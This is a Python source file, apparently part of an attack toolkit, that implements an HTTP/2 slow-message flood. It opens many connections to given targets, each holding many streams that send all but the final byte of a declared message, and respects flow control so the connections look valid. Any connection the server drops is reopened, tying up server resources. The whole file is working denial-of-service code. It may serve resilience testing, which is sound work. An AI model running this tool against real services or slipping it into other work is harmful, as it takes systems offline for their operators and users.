"""Messages that never end: HTTP/2 connections, each with calls that announce a message and hold back its last byte.

Flow control is obeyed, so that nothing is wrong with a connection but that it does not go on.

As a program: flood.py JSON, the arguments of incomplete_messages; prints [bytes sent, connections ended].
"""
import json
import selectors
import socket
import struct
import sys
import time

from attacks import DATA, END_HEADERS, HEADERS, PREFACE, SETTINGS, WINDOW_UPDATE, frame, request_headers

INITIAL_WINDOW = 65535
FRAME_BYTES = 16384
SETTINGS_ACK = 1
INITIAL_WINDOW_SETTING = 4


class Connection:
    """One connection with `streams` calls of `path`; each sends all of a message of `message_bytes` but the last byte."""

    def __init__(self, address, source, path, streams, message_bytes):
        self.socket = socket.socket()
        self.socket.bind((source, 0))
        self.socket.settimeout(5)
        self.socket.connect(address)
        self.socket.setblocking(False)
        self.window, self.initial = INITIAL_WINDOW, INITIAL_WINDOW
        self.out, self.seen = bytearray(PREFACE + frame(SETTINGS, 0, 0)), bytearray()
        self.windows, self.left, self.sent = {}, {}, 0
        for stream in range(1, 2 * streams, 2):
            self.windows[stream], self.left[stream] = self.initial, message_bytes + 5 - 1
            self.out += frame(HEADERS, END_HEADERS, stream, request_headers(path))
        self.prefix = b"\0" + struct.pack(">I", message_bytes)
        self.begun = set()

    def heard(self):
        """False when the other side has hung up."""
        try:
            data = self.socket.recv(1 << 16)
        except BlockingIOError:
            return True
        except OSError:
            return False
        self.seen += data
        while len(self.seen) >= 9:
            size = int.from_bytes(self.seen[:3], "big")
            if len(self.seen) < 9 + size:
                break
            kind, flags, stream = self.seen[3], self.seen[4], int.from_bytes(self.seen[5:9], "big")
            self._take(kind, flags, stream, bytes(self.seen[9:9 + size]))
            del self.seen[:9 + size]
        return bool(data)

    def _take(self, kind, flags, stream, payload):
        if kind == WINDOW_UPDATE:
            more = int.from_bytes(payload, "big")
            if stream == 0:
                self.window += more
            elif stream in self.windows:
                self.windows[stream] += more
        elif kind == SETTINGS and not flags & SETTINGS_ACK:
            for at in range(0, len(payload), 6):
                name, value = struct.unpack_from(">HI", payload, at)
                if name == INITIAL_WINDOW_SETTING:
                    for each in self.windows:
                        self.windows[each] += value - self.initial
                    self.initial = value
            self.out += frame(SETTINGS, SETTINGS_ACK, 0)

    def fill(self):
        """The next frames that flow control allows."""
        for stream, left in self.left.items():
            size = min(left, self.window, self.windows[stream], FRAME_BYTES)
            if size <= 0 or len(self.out) > 1 << 20:
                continue
            body = bytes(size)
            if stream not in self.begun:
                self.begun.add(stream)
                body = (self.prefix + body)[:size]
            self.out += frame(DATA, 0, stream, body)
            self.left[stream] -= size
            self.window -= size
            self.windows[stream] -= size
            self.sent += size

    def send(self):
        self.fill()
        if not self.out:
            return True
        try:
            del self.out[:self.socket.send(self.out)]
        except BlockingIOError:
            pass
        except OSError:
            return False
        return True


def incomplete_messages(ports, connections, streams, message_bytes, seconds):
    """`connections` to each of `ports` [(address, source, path)], for so long. How many bytes were sent, and how many
    connections the other side ended; each of those is replaced."""
    chosen = selectors.DefaultSelector()
    sent = ended = 0

    def begin(port):
        try:
            connection = Connection(*port, streams, message_bytes)
        except OSError:
            return 1
        chosen.register(connection.socket, selectors.EVENT_READ, (connection, port))
        return 0

    for port in ports:
        for _ in range(connections):
            ended += begin(port)
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        for key, _ in chosen.select(0.02):
            if not key.data[0].heard():
                key.data[0].send_failed = True
        gone = []
        for key in list(chosen.get_map().values()):
            connection, port = key.data
            if getattr(connection, "send_failed", False) or not connection.send():
                gone.append((key.fileobj, connection, port))
        for each, connection, port in gone:
            chosen.unregister(each)
            each.close()
            sent += connection.sent
            ended += 1
            ended += begin(port)
    for key in list(chosen.get_map().values()):
        sent += key.data[0].sent
        key.fileobj.close()
    return sent, ended


if __name__ == "__main__":
    wanted = json.loads(sys.argv[1])
    wanted["ports"] = [((host, port), source, path) for (host, port), source, path in wanted["ports"]]
    print(json.dumps(incomplete_messages(**wanted)))
